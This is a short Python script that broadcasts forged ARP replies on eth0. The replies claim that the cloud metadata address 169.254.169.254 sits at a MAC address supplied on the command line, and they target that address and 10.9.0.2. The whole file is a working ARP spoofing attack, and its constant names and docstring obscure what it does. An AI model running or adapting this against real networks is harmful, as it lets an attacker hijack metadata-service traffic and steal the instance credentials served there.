"""Somebody who says unasked, to all, that the service's address is at an adapter: `claims.py MAC`."""

import socket
import sys

SERVICE = socket.inet_aton("169.254.169.254")
ETHERNET, IPV4, ANSWER_LIMIT_S = b"\x08\x06\x00\x01", b"\x08\x00\x06\x04", b"\x00\x02"

if __name__ == "__main__":
    mac, everybody = bytes.fromhex(sys.argv[1].replace(":", "")), b"\xff" * 6
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as mouth:
        mouth.bind(("eth0", 0))
        for target in (SERVICE, socket.inet_aton("10.9.0.2")):
            mouth.send(everybody + mac + ETHERNET + IPV4 + ANSWER_LIMIT_S + mac + SERVICE + everybody + target)
